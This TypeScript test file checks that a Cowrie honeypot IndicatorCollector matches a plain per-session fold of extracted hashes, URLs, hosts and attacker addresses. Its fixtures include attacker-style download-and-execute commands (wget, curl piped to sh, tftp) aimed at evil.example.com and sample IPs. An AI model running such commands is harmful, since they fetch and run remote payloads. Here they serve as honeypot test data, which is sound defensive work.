/**
 * IndicatorCollector folds sessions without building per-session maps where it can (address-only
 * sessions, commands without URLs) and finds attackers by the address as logged. Checked here against
 * the plain fold: `sessionIndicators` of every session, each indicator touched by kind and id.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Indicator } from '../indicators/index.js';
import { type CowrieIndicator, type ExtractOptions, type ExtractStats, IndicatorCollector, type IndicatorRole, sessionIndicators } from './extract.js';
import type { CowrieSession } from './sessions.js';

const HASH = (n: number) => n.toString(16).padStart(64, 'a');
const IPS = ['45.148.10.95', '185.224.128.17', '10.0.0.5', '2001:db8::1', '2a01:4f8::1', 'not-an-ip', '', '192.168.1.9', '045.148.10.95', '45.148.10[.]95', ' 185.224.128.17', '::ffff:45.148.10.95'];
const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name',
  'cd /tmp && wget http://45.148.10.95/bins/x86 && chmod +x x86',
  'curl -O http://evil.example.com/a.sh; sh a.sh',
  'tftp -g -r mips 185.224.128.17',
  'wget http://10.0.0.1/x',
];

function sessions(count: number): CowrieSession[] {
  const out: CowrieSession[] = [];
  for (let i = 0; i < count; i++) {
    const kind = i % 5;
    out.push({
      session: `s${i}`,
      srcIp: i % 13 === 0 ? null : (IPS[i % IPS.length] as string),
      srcPort: null,
      dstIp: null,
      dstPort: null,
      protocol: 'ssh',
      sensor: null,
      startAt: i % 11 === 0 ? null : 1_700_000_000_000 + ((i * 7919) % 5000),
      endAt: i % 17 === 0 ? null : 1_700_000_010_000 + ((i * 104729) % 5000),
      durationMs: null,
      clientVersion: null,
      logins: [],
      commands: kind >= 2 ? [COMMANDS[i % COMMANDS.length] as string, COMMANDS[(i * 3) % COMMANDS.length] as string] : [],
      downloads:
        kind === 4
          ? [
              { url: i % 2 ? 'http://45.148.10.95/bins/x86' : '/dev/null', sha256: HASH(i % 4), destfile: `/tmp/f${i % 3}`, at: null },
              { url: 'http://evil.example.com/a.sh', failed: true, at: null },
              { sha256: '', at: null },
            ]
          : [],
      uploads: kind === 3 && i % 2 ? [{ sha256: HASH(i % 6).toUpperCase(), filename: `up${i % 7}`, at: null }] : [],
      events: 1 + (i % 9),
      closed: true,
      ...(i % 19 === 0 ? { fragment: true } : {}),
    });
  }
  return out;
}

/** The plain fold: every session's indicators, touched by `kind:id` in the order sessionIndicators gives them. */
function plain(list: CowrieSession[], options: ExtractOptions): { indicators: CowrieIndicator[]; stats: ExtractStats } {
  const stats: ExtractStats = { emptyHashes: 0, emptyFileHashes: 0, invalidHashes: 0, localPathUrls: 0, refused: 0 };
  const byKey = new Map<string, CowrieIndicator & { group: number }>();
  const touch = (s: CowrieSession, ind: Indicator, group: number, role: IndicatorRole, events: number, names: readonly string[] = []) => {
    const key = `${ind.kind}:${ind.id}`;
    const e = byKey.get(key) ?? { kind: ind.kind, id: ind.id, value: ind.value, indicator: ind, sessions: 0, events: 0, roles: [], firstSeenAt: null, lastSeenAt: null, names: [], group };
    byKey.set(key, e);
    e.group = Math.min(e.group, group);
    if (!s.fragment) e.sessions++;
    e.events += events;
    if (!e.roles.includes(role)) e.roles.push(role);
    for (const n of names) if (e.names.length < 5 && !e.names.includes(n)) e.names.push(n);
    if (s.startAt !== null) {
      if (e.firstSeenAt === null || s.startAt < e.firstSeenAt) e.firstSeenAt = s.startAt;
      const end = s.endAt ?? s.startAt;
      if (e.lastSeenAt === null || end > e.lastSeenAt) e.lastSeenAt = end;
    }
  };
  for (const s of list) {
    const found = sessionIndicators(s, options, stats);
    for (const h of found.hashes.values()) touch(s, h.indicator, 0, h.role, h.mentions, h.names);
    for (const u of found.urls.values()) touch(s, u.indicator, 1, u.role, u.mentions);
    for (const h of found.hosts.values()) touch(s, h.indicator, 2, 'url_host', h.mentions);
    if (found.attacker) touch(s, found.attacker, 3, 'attacker', s.events);
  }
  const all = [...byKey.values()];
  all.sort((a, b) => a.group - b.group || b.sessions - a.sessions || b.events - a.events || a.id.localeCompare(b.id));
  return { indicators: all.map(({ group: _g, ...rest }) => ({ ...rest, known: false })), stats };
}

for (const allowPrivate of [false, true]) {
  test(`the collector's indicators and skip counts equal the plain fold of sessionIndicators (allowPrivate ${allowPrivate})`, () => {
    const list = sessions(2000);
    const collector = new IndicatorCollector({ allowPrivate });
    for (const s of list) collector.add(s);
    const expected = plain(list, { allowPrivate });
    assert.deepEqual(collector.list(), expected.indicators);
    assert.deepEqual(collector.stats, expected.stats);
    // The generated sessions do exercise each path.
    assert.ok(expected.stats.refused > 0 && expected.stats.localPathUrls > 0 && expected.stats.emptyHashes > 0);
    assert.ok(expected.indicators.some((x) => x.roles.includes('attacker') && x.roles.includes('url_host')));
  });
}
